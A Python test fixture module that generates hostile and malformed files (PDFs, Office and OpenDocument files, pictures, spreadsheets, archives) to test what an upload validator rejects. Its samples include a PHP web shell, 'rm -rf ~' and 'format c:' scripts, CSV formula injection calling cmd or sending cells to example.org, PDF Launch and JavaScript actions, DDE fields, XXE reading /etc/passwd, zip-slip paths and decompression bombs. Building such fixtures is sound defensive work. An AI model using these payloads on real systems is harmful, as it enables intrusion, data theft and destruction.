"""Files that must not be kept, by name: made here, each from an honest one, for every test run anew."""

import random
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile, ZipInfo

from .honest import archive, chunk, link, object_list, odf, office, pdf, picture, png, relations

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PAGE = b"<html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MEGABYTE = 1024 * 1024

# --- Wrong kinds ------------------------------------------------------------------------------------------

WRONG_KINDS = {
    "nothing at all": b"",
    "eleven megabytes": b"a" * (11 * MEGABYTE),
    "one zero byte": b"\0",
    "nothing but spaces": b"  \n\t \r\n ",
    "noise": random.Random(1).randbytes(5_000),
    "text with a zero byte": b"We met\0 on Tuesday.",
    "text with an escape": b"\x1b[2JWe met on Tuesday.",
    "text with a backspace": b"We met\x08\x08 on Tuesday.",
    "a Windows program": b"MZ\x90\0" + bytes(200) + b"This program cannot be run in DOS mode",
    "a Linux program": b"\x7fELF\x02\x01\x01" + bytes(60),
    "a Mac program": b"\xcf\xfa\xed\xfe" + bytes(60),
    "a Mac program for two processors": b"\xca\xfe\xba\xbe" + bytes(60),
    "a Windows shortcut": b"\x4c\0\0\0\x01\x14\x02\0" + bytes(60),
    "web assembly": b"\0asm\x01\0\0\0",
    "a shell script": b"#!/bin/sh\nrm -rf ~\n",
    "a shell script after an empty line": b"\n#!/bin/sh\nrm -rf ~\n",
    "a batch file": b"@echo off\r\nformat c:\r\n",
    "a PHP page": b"<?php system($_GET['c']); ?>",
    "a PHP page after words": b"Notes.\n<?php system($_GET['c']); ?>",
    "a server page": b"<% eval request(1) %>",
    "a web page": PAGE,
    "a web page of version five": b"<!DOCTYPE html><title>x</title>",
    "a web page after a comment": b"<!-- notes -->" + PAGE,
    "a web page after words": b"Notes of the meeting.\n" + PAGE,
    "a web page after white space": b"\n\n\t " + PAGE,
    "a web page in capitals": PAGE.upper(),
    "a web page in two bytes a letter": PAGE.decode().encode("utf-16"),
    "a web page with a mark in front": b"\xef\xbb\xbf" + PAGE,
    "a page that is one frame": b"<iframe src=javascript:alert(1)>",
    "a page that is one picture": b"<img src=x onerror=alert(1)>",
    "a page that is one style": b"<style>@import 'https://example.org'</style>",
    "an SVG drawing": SVG,
    "an SVG drawing with a declaration": b'<?xml version="1.0"?>' + SVG,
    "an XML file": b'<?xml version="1.0"?><a/>',
    "an XML bomb": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
    "an XSL sheet": b'<xsl:stylesheet version="1.0"/>',
    "a saved e-mail": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAGE,
    "a rich text file": rb"{\rtf1\ansi {\object\objdata 0}}",
    "PostScript": b"%!PS-Adobe-3.0\n(x) run",
    "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "a GIF": picture("GIF"),
    "a GIF that is a page": b"GIF89a=1;/*" + PAGE + b"*/",
    "a BMP": picture("BMP"),
    "a TIFF": picture("TIFF"),
    "a WebP": picture("WEBP"),
    "an icon": picture("ICO"),
    "a picture from a phone": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    "an AVIF picture": b"\0\0\0\x18ftypavif\0\0\0\0avifmif1",
    "a film": b"\0\0\0\x18ftypmp42\0\0\0\0isommp42",
    "a song": b"ID3\x03\0\0\0\0\0\0",
    "a recording": b"RIFF\x24\0\0\0WAVEfmt ",
    "a Matroska film": b"\x1aE\xdf\xa3" + bytes(40),
    "a tape archive": bytes(257) + b"ustar\x0000" + bytes(248),
    "a gzip": b"\x1f\x8b\x08\0" + bytes(20),
    "a RAR": b"Rar!\x1a\x07\x01\0" + bytes(20),
    "a 7z": b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(20),
    "an XZ": b"\xfd7zXZ\0" + bytes(20),
    "a cabinet": b"MSCF" + bytes(40),
    "a disk image": bytes(0x8001) + b"CD001" + bytes(2048),
    "a database": b"SQLite format 3\0" + bytes(100),
    "an empty archive": archive({}),
}

# --- Tables that a spreadsheet program runs ---------------------------------------------------------------

TABLES = {
    "a table that starts a program": b"a,b\n=cmd|' /C calc'!A0,1\n",
    "a table that starts a program by another sign": b"a,b\n@SUM(1+9)*cmd|' /C calc'!A0,1\n",
    "a table that starts a program after a plus": b"a,b\n+cmd|' /C calc'!A0,1\n",
    "a table that starts a program after a minus": b"a,b\n-2+3+cmd|' /C calc'!A0,1\n",
    "a table that sends its cells away": b'a;b\n=HYPERLINK("https://example.org?"&A1);1\n',
    "a table with a formula after a space": b"a,b\n 1, =1+1\n",
    "a table with a formula in quotes": b'a,b\n1,"=1+1"\n',
    "a table with a formula after a line break": b'a,b\n1,"\n=1+1"\n',
    "a table with a formula far below": b"a,b\n" + b"1,2\n" * 5_000 + b"=1+1,2\n",
    "a table with tabs and a formula": b"a\tb\n1\t=1+1\n",
    "a table with a call after a minus": b'a,b\n-HYPERLINK("https://example.org"),1\n',
}

# --- PDFs -------------------------------------------------------------------------------------------------


def action(written: bytes) -> bytes:
    return b"<< /Type /Action " + written + b" >>"


_BOMB = zlib.compress(bytes(60 * MEGABYTE), 9)

PDFS = {
    "a PDF cut in half": pdf()[: len(pdf()) // 2],
    "a PDF without its last line": pdf().replace(b"%%EOF\n", b""),
    "a PDF that is only its first line": b"%PDF-1.7\n",
    "a PDF that is only its first and last line": b"%PDF-1.7\n%%EOF",
    "a PDF with noise inside": b"%PDF-1.7\n" + random.Random(2).randbytes(500) + b"\nstartxref\n9\n%%EOF",
    "a PDF whose table is elsewhere": pdf().replace(b"startxref\n", b"startxref\n9"),
    "a PDF without a root": pdf().replace(b"/Root", b"/Toor"),
    "a PDF of no version": pdf(header=b"%PDF-x\n"),
    "a PDF after other bytes": b"GIF89a" + pdf(),
    "a PDF after a program": b"MZ" + bytes(60) + pdf(),
    "a PDF with a page behind it": pdf() + PAGE,
    "a PDF with an archive behind it": pdf() + archive({"a.txt": "a"}),
    "a PDF with a PDF behind it in noise": pdf() + b"noise" + pdf()[:40],
    "a PDF that is an archive by its last line": archive({"x": pdf()}, stored=("x",)).replace(b"PK", b"%P", 1),
    "a PDF inside an archive's comment": b"%PDF-1.7\n" + archive({"a.txt": "a"}, comment=pdf()[9:]),
    "a PDF that begins with a page": pdf(header=b"%PDF-1.7\n" + PAGE + b"\n"),
    "a PDF that begins with a drawing": pdf(header=b"%PDF-1.7\n%" + SVG + b"\n"),
    "a PDF that begins with a script tag": pdf(header=b"%PDF-1.7\n<SCRIPT src=//example.org></SCRIPT>\n"),
    "a PDF with a password": pdf(b"<< /Filter /Standard /V 2 >>", trailer=b"/Encrypt 4 0 R"),
    "a PDF with a password in its last lines": pdf(trailer=b"/Encrypt << /Filter /Standard >>"),
    "a PDF with a script": pdf(action(b"/S /JavaScript /JS (app.alert\\(1\\))")),
    "a PDF that runs a script when opened": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (x) >>"),
    "a PDF with a script whose name is written in numbers": pdf(action(b"/S /J#61vaScr#69pt /JS (x)")),
    "a PDF with a script whose name is all numbers": pdf(
        action(b"/S /" + b"".join(b"#%02x" % sign for sign in b"JavaScript") + b" /JS (x)")
    ),
    "a PDF with scripts by name": pdf(catalog=b"/Names << /JavaScript 4 0 R >>"),
    "a PDF that starts a program": pdf(action(b"/S /Launch /F (cmd.exe)")),
    "a PDF that sends a form away": pdf(action(b"/S /SubmitForm /F (https://example.org)")),
    "a PDF that reads a file in": pdf(action(b"/S /ImportData /F (c:/x.fdf)")),
    "a PDF that opens another file": pdf(action(b"/S /GoToR /F (\\\\\\\\example.org\\\\x.pdf)")),
    "a PDF that opens a file inside it": pdf(action(b"/S /GoToE /T << >>")),
    "a PDF with a film": pdf(action(b"/S /Rendition /OP 0")),
    "a PDF with rich media": pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
    "a PDF with a form that runs": pdf(catalog=b"/AcroForm << /XFA [ (x) 4 0 R ] >>"),
    "a PDF with a file inside": pdf(b"<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream"),
    "a PDF with files by name": pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"),
    "a PDF that is a collection": pdf(catalog=b"/Collection << /View /D >>"),
    "a PDF with a script in a packed list": pdf(object_list(b"4 0 << /S /JavaScript /JS (x) >>")),
    "a PDF with a program start in a packed list": pdf(object_list(b"4 0 << /S /Launch >>")),
    "a PDF with a script in numbers in a packed list": pdf(object_list(b"4 0 << /S /Java#53cript >>")),
    "a PDF with a script in the second packed list": pdf(
        object_list(b"4 0 << >>"), object_list(b"5 0 << /S /Launch >>")
    ),
    "a PDF with a list whose name is in numbers": pdf(
        object_list(b"4 0 << /S /Launch >>").replace(b"/ObjStm", b"/#4fbjStm")
    ),
    "a PDF with a list packed in another way": pdf(
        object_list(b"", filters=b"/Filter /ASCIIHexDecode", packed=b"3C3C2F532F4C61756E63683E3E>")
    ),
    "a PDF with a list packed twice": pdf(
        object_list(
            b"",
            filters=b"/Filter [/FlateDecode /FlateDecode]",
            packed=zlib.compress(zlib.compress(b"<< /S /Launch >>")),
        )
    ),
    "a PDF with a list in steps": pdf(
        object_list(
            b"",
            filters=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
            packed=zlib.compress(b"\0<</S\0 /La\0unch\0 >> "),
        )
    ),
    "a PDF with a list that is a bomb": pdf(object_list(b"", packed=_BOMB)),
}

# --- Pictures ---------------------------------------------------------------------------------------------


def _sized(jpeg: bytes, width: int, height: int) -> bytes:
    """A JPEG that says it has other measures."""
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">2H", height, width) + jpeg[at + 4 :]


def _in_parts(jpeg: bytes, scans: int) -> bytes:
    """A JPEG whose one pass is repeated."""
    at = jpeg.index(b"\xff\xda")
    return jpeg[:at] + jpeg[at:-2] * scans + b"\xff\xd9"


def _in_passes(jpeg: bytes, times: int) -> bytes:
    """A JPEG that is drawn in passes, whose second pass comes again and again: each costs a whole drawing."""
    at = jpeg.index(b"\xff\xda", jpeg.index(b"\xff\xda") + 2)
    end = jpeg.index(b"\xff\xda", at + 2)
    tables = jpeg.rfind(b"\xff\xc4", 0, at)
    return jpeg[:at] + jpeg[tables:end] * times + jpeg[end:]


def _with_comment(jpeg: bytes, comment: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


_JPEG = picture("JPEG")
_PNG = png()
_TINY = archive({"a.txt": "a"})

PICTURES = {
    "a PNG that is only its first bytes": _PNG[:8],
    "a PNG cut in half": _PNG[: len(_PNG) // 2],
    "a PNG without its end": _PNG[:-12],
    "a PNG with a page behind it": _PNG + PAGE,
    "a PNG with an archive behind it": _PNG + _TINY,
    "a PNG with one byte behind it": _PNG + b"\0",
    "a PNG that is an archive by a note": png(
        before=chunk(b"tEXt", b"C\0" + archive({"a.txt": "a"}, comment=b"x" * 5)[:-7])
    )
    + _TINY,
    "a PNG with a wrong sum": _PNG[:-1] + b"\0",
    "a PNG with noise for dots": png(dots=None).replace(
        zlib.compress(bytes(39)), b"x" * len(zlib.compress(bytes(39)))
    ),
    "a PNG with too few dots": png(dots=b"\0" * 5),
    "a PNG with too many dots": png(dots=b"\0" * 5_000),
    "a PNG that is a bomb": png(20, 20, dots=bytes(200 * MEGABYTE)),
    "a PNG of enormous measures": png(60_000, 60_000, dots=b""),
    "a PNG of the greatest measures": png(2**31 - 1, 2**31 - 1, dots=b""),
    "a PNG of no width": png(0, 3),
    "a PNG of an unknown colour": png(colour=5),
    "a PNG of an unknown depth": png(depth=7),
    "a PNG in unknown passes": png(interlaced=2),
    "a PNG with its header twice": png(before=chunk(b"IHDR", struct.pack(">2L5B", 4, 3, 8, 2, 0, 0, 0))),
    "a PNG without a header": b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""),
    "a PNG without dots": b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">2L5B", 4, 3, 8, 2, 0, 0, 0))
    + chunk(b"IEND", b""),
    "a PNG with a short header": b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0\0") + chunk(b"IEND", b""),
    "a PNG in a hundred thousand parts": png(before=chunk(b"tEXt", b"") * 100_000),
    "a PNG that claims a part of four gigabytes": _PNG[:8] + b"\xff\xff\xff\xff" + _PNG[12:],
    "a PNG changed by a text program": _PNG.replace(b"\r\n", b"\n", 1),
    "a JPEG that is only its first bytes": b"\xff\xd8\xff",
    "a JPEG cut in half": _JPEG[: len(_JPEG) // 2],
    "a JPEG without its end": _JPEG[:-2],
    "a JPEG without a picture": b"\xff\xd8\xff\xd9",
    "a JPEG that is a page": b"\xff\xd8\xff" + PAGE,
    "a JPEG of enormous measures": _sized(_JPEG, 65_000, 65_000),
    "a JPEG of no width": _sized(_JPEG, 0, 48),
    "a JPEG in a thousand passes": _in_parts(picture("JPEG"), 1_000),
    "a JPEG that is drawn two hundred times": _in_passes(picture("JPEG", progressive=True), 200),
    "a JPEG that is an archive by a comment": _with_comment(
        _JPEG[:-2], archive({"a.txt": "a"}, comment=b"x" * len(_JPEG[2:]))[: -len(_JPEG[2:])]
    )
    + b"\xff\xd9",
    "a JPEG with a part of no length": _JPEG[:2] + b"\xff\xfe\0\0" + _JPEG[2:],
    "a JPEG with a part longer than itself": _JPEG[:2] + b"\xff\xfe\xff\xff" + _JPEG[2:200],
    "a JPEG with noise for tables": _JPEG[:2] + b"\xff\xc4\0\x04\xff\xff" + _JPEG[2:],
    "a JPEG that begins twice": b"\xff\xd8\xff\xd8" + _JPEG[2:],
}

# --- Office documents -------------------------------------------------------------------------------------

DOT = "../" * 3
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _fields(*pieces: str) -> str:
    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:document xmlns:w="{WORDS}">{told}</w:document>'


def _renamed(content: bytes, before: bytes, after: bytes, times: int = -1) -> bytes:
    assert len(before) == len(after)
    return content.replace(before, after, times)


def _with_entry(name: str, content: bytes = b"x", method: int = ZIP_DEFLATED, attributes: int = 0) -> bytes:
    """A Word document with one more entry, of a kind that archives allow and office programs never write."""
    made = BytesIO(office())
    with ZipFile(made, "a") as opened:
        info = ZipInfo(name)
        info.compress_type, info.external_attr = method, attributes
        opened.writestr(info, content)
    return made.getvalue()


def _lying(size: int) -> bytes:
    """A Word document in which one entry says that it is `size` bytes long, and is not."""
    true = bytes(MEGABYTE)
    made = office("docx", {"word/media/a.dat": true})
    return made.replace(struct.pack("<L", len(true)), struct.pack("<L", size))


def _overlapping() -> bytes:
    """A Word document whose list of contents names one packed entry many times over."""
    made = office("docx", {"word/media/a.dat": bytes(MEGABYTE)})
    end = made[-22:]
    count, size, start = struct.unpack("<HLL", end[10:20])
    listed = made[start : start + size]
    last = listed[listed.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"a.dat", b"%c.dat" % sign) for sign in b"bcdefgh")
    return (
        made[: start + size]
        + more
        + end[:8]
        + struct.pack("<HHLLH", count + 7, count + 7, size + len(more), start, 0)
    )


def _encrypted() -> bytes:
    """A Word document whose last entry says that it has a password."""
    made = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.rindex(mark) + place] |= 1
    return bytes(made)


OFFICE = {
    "an archive of one file": _TINY,
    "an archive named as a Word document": archive({"word/document.xml": "<a/>"}),
    "a Java archive": archive({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"}),
    "a program for Android": archive({"AndroidManifest.xml": b"\x03\0\x08\0", "classes.dex": b"dex"}),
    "a book": archive({"mimetype": "application/epub+zip", "a.xhtml": "<a/>"}, stored=("mimetype",)),
    "a drawing of OpenDocument": archive(
        {"mimetype": "application/vnd.oasis.opendocument.graphics", "content.xml": "<a/>"}
    ),
    "a Word template": office(
        said="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    ),
    "a Word document that may have macros": office(said="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "an Excel workbook that may have macros": office(
        "xlsx", said="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ),
    "a Word document with macros": office("docx", {"word/vbaProject.bin": b"x"}),
    "a Word document with macros in other letters": office("docx", {"word/VBAPROJECT.BIN": b"x"}),
    "an Excel workbook with macros": office("xlsx", {"xl/vbaProject.bin": b"x"}),
    "an Excel workbook with old macros": office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}),
    "an Excel workbook with a dialog": office("xlsx", {"xl/dialogsheets/sheet1.xml": "<a/>"}),
    "a Word document with a control": office("docx", {"word/activeX/activeX1.xml": "<a/>"}),
    "a Word document with an add-in": office("docx", {"word/webextensions/webextension1.xml": "<a/>"}),
    "a Word document with buttons of its own": office("docx", {"customUI/customUI.xml": "<a/>"}),
    "a Word document with macros elsewhere": office(
        "docx", {"word/_rels/a.xml.rels": relations(link("vbaProject", "x.bin", "Internal"))}
    ),
    "a Word document with an object": office("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "a Word document with a program": office("docx", {"word/media/image1.png": b"MZ\x90\0"}),
    "a Word document with a Linux program": office("docx", {"word/media/image1.png": b"\x7fELF"}),
    "a Word document with an archive": office("docx", {"word/media/image1.png": _TINY}),
    "a Word document with a script": office("docx", {"word/a.js": "alert(1)"}),
    "a Word document with a shell script": office("docx", {"word/media/a.txt": "#!/bin/sh"}),
    "a Word document with an old document": office("docx", {"word/media/a.doc": b"\xd0\xcf\x11\xe0"}),
    "slides with a workbook with macros": office(
        "pptx", {"ppt/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}
    ),
    "slides in a document in slides": office(
        "pptx", {"ppt/embeddings/a.docx": office("docx", {"word/embeddings/b.xlsx": office("xlsx")})}
    ),
    "slides with an archive for a workbook": office("pptx", {"ppt/embeddings/a.xlsx": _TINY}),
    "a Word document with a template from the web": office(
        "docx", {"word/_rels/settings.xml.rels": relations(link("attachedTemplate", "https://example.org/x.dotm"))}
    ),
    "a Word document with a template from another computer": office(
        "docx",
        {"word/_rels/settings.xml.rels": relations(link("attachedTemplate", "file:///\\\\example.org\\x.dotm"))},
    ),
    "a Word document with a picture from the web": office(
        "docx", {"word/_rels/document.xml.rels": relations(link("image", "https://example.org/x.png"))}
    ),
    "a Word document with an object from the web": office(
        "docx", {"word/_rels/document.xml.rels": relations(link("oleObject", "https://example.org/x"))}
    ),
    "a Word document with a frame from the web": office(
        "docx", {"word/_rels/webSettings.xml.rels": relations(link("frame", "https://example.org/x"))}
    ),
    "a Word document with a relation out of the archive": office(
        "docx", {"_rels/.rels": relations(link("image", DOT + "etc/passwd", "Internal"))}
    ),
    "a Word document that starts a program by a field": office(main=_fields("DDEAUTO c:\\\\x.exe")),
    "a Word document that starts a program by a field in pieces": office(main=_fields("DD", "EAU", "TO c:\\\\x.exe")),
    "a Word document that starts a program by a simple field": office(
        main=f'<w:document xmlns:w="{WORDS}"><w:fldSimple w:instr="DDE cmd x"/></w:document>'
    ),
    "an Excel workbook that starts a program": office(
        "xlsx",
        {
            "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C x"/>'
            "</externalLink>"
        },
    ),
    "an Excel workbook with an object elsewhere": office(
        "xlsx", {"xl/externalLinks/externalLink1.xml": '<externalLink><oleLink progId="x"/></externalLink>'}
    ),
    "an Excel workbook that asks the web": office("xlsx", {"xl/connections.xml": "<connections/>"}),
    "an Excel workbook with questions to the web": office("xlsx", {"xl/queryTables/queryTable1.xml": "<a/>"}),
    "a Word document with an XML bomb": office(
        main='<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    ),
    "a Word document with a document type elsewhere": office(main='<!DOCTYPE a SYSTEM "https://example.org/x"><a/>'),
    "a Word document that reads a file": office(
        main='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    ),
    "a Word document with its bomb in two bytes a letter": office(
        "docx", {"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'.encode("utf-16")}
    ),
    "a Word document with its bomb in the letters of old mainframes": office(
        "docx",
        {
            "word/styles.xml": b'<?xml version="1.0" encoding="cp037"?>'
            + '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'.encode("cp037")
        },
    ),
    "a Word document with a bomb in its types": archive(
        {"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "b">]><Types/>', "word/document.xml": "<a/>"}
    ),
    "a Word document whose XML is broken": office(main="<document>"),
    "a Word document whose XML is in no known letters": office(main='<?xml version="1.0" encoding="x-made-up"?><a/>'),
    "a document of two kinds": archive(
        {
            "[Content_Types].xml": '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/><Override ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "word/document.xml": "<a/>",
        }
    ),
    "a bomb of one part": office("docx", {"word/media/a.xml": b"<a>" + bytes(101 * MEGABYTE)}),
    "a bomb of many parts": office("docx", {f"word/media/{n}.dat": bytes(6 * MEGABYTE) for n in range(20)}),
    "a bomb of overlapping parts": _overlapping(),
    "a bomb that says it is small": _lying(10),
    "a part that says it is longer than it is": _lying(2 * MEGABYTE),
    "a part that says it is four gigabytes": _lying(0xFFFFFFF0),
    "a bomb in a workbook in slides": office(
        "pptx", {"ppt/embeddings/a.xlsx": office("xlsx", {"xl/media/a.dat": bytes(101 * MEGABYTE)})}
    ),
    "five thousand parts": office("docx", {f"word/media/{n}.dat": b"x" for n in range(5_000)}),
    "five thousand parts that are said to be five": _renamed(
        archive({f"{n}.dat": b"x" for n in range(5_000)}), struct.pack("<H", 5_000) * 2, struct.pack("<H", 5) * 2
    ),
    "a part that leads out of the archive": _with_entry("../../../etc/cron.d/x"),
    "a part that leads to the root": _with_entry("/etc/passwd"),
    "a part that leads to a disk": _with_entry("C:/Windows/x.dat"),
    "a part with Windows' separators": _renamed(_with_entry("word/..!..!x.dat"), b"..!..!x", b"..\\..\\x"),
    "a part with a zero in its name": _renamed(_with_entry("word/xQx.dat"), b"xQx", b"x\0x"),
    "a part with a control in its name": _with_entry("word/\x1b[2J.dat"),
    "a part without a name": _with_entry(""),
    "a part with a doubled separator": _with_entry("word//x.dat"),
    "a part whose name runs backwards": _with_entry("word/\u202etxt.exe"),
    "two parts of one name": _renamed(_with_entry("word/docuQent.xml"), b"docuQent", b"document"),
    "two parts of one name but for capitals": _with_entry("word/Document.XML"),
    "a part that is a link": _with_entry("word/x.dat", b"/etc/passwd", ZIP_STORED, 0o120777 << 16),
    "a part packed with bzip2": _with_entry("word/x.dat", b"x" * 100, ZIP_BZIP2),
    "a part packed with LZMA": _with_entry("word/x.dat", b"x" * 100, ZIP_LZMA),
    "a part with another name inside": _renamed(_with_entry("word/xQx.dat"), b"xQx", b"xRx", 1),
    "a part with a wrong sum": _renamed(
        office("docx", {"a.txt": b"abc"}), struct.pack("<L", zlib.crc32(b"abc")), b"\1\2\3\4"
    ),
    "a document with a password on a part": _encrypted(),
    "a document cut in half": office()[: len(office()) // 2],
    "a document without its list of contents": office()[:-22],
    "a document with a page behind it": office() + PAGE,
    "a document with a PDF behind it": office() + pdf(),
    "a document with a page in front": PAGE + office(),
    "a document with a program in front": b"MZ" + bytes(60) + office(),
    "a document with a page in its comment": archive({"[Content_Types].xml": "<Types/>"}, comment=PAGE),
    "a document behind another": office() + office(),
    "a document whose list claims a gigabyte": office()[:-10] + struct.pack("<L", 2**30) + office()[-6:],
    "an OpenDocument text with macros": odf("odt", {"Basic/Standard/Module1.xml": "<a/>"}),
    "an OpenDocument text with a script": odf("odt", {"Scripts/python/x.py": "import os"}),
    "an OpenDocument text that acts when opened": odf(body='<event-listener href="vnd.sun.star.script:x"/>'),
    "an OpenDocument text with a macro behind a link": odf(body='<a href="macro:///Standard.x.y()">x</a>'),
    "an OpenDocument text with a script behind a link": odf(body='<a href="vnd.sun.star.script:x$y">x</a>'),
    "an OpenDocument text with a picture from the web": odf(body='<image href="https://example.org/x.png"/>'),
    "an OpenDocument text with a picture from another computer": odf(body='<image href="//example.org/x.png"/>'),
    "an OpenDocument text with an object from the disk": odf(body='<object href="file:///etc/passwd"/>'),
    "an OpenDocument text with a part of another": odf(body='<section-source href="https://example.org/x.odt"/>'),
    "an OpenDocument text with a frame": odf(body='<floating-frame href="https://example.org"/>'),
    "an OpenDocument spreadsheet that asks a program": odf("ods", body="<dde-source/>"),
    "an OpenDocument text with a password": odf(
        "odt", {"META-INF/manifest.xml": "<manifest><file-entry><encryption-data/></file-entry></manifest>"}
    ),
    "an OpenDocument text with an object of the old kind": odf("odt", {"Object 1": b"\xd0\xcf\x11\xe0"}),
    "an OpenDocument text with an XML bomb": odf("odt", {"styles.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}),
}

HOSTILE = {**WRONG_KINDS, **TABLES, **PDFS, **PICTURES, **OFFICE}

# --- What is kept without its tail ------------------------------------------------------------------------

TAILS = {
    "a page": PAGE,
    "an archive": _TINY,
    "a Java archive": OFFICE["a Java archive"],
    "a program": b"MZ" + bytes(60),
    "a film, as phones put it there": b"\0\0\0\x18ftypmp42" + bytes(400),
    "another picture": _JPEG,
    "a PDF": pdf(),
}
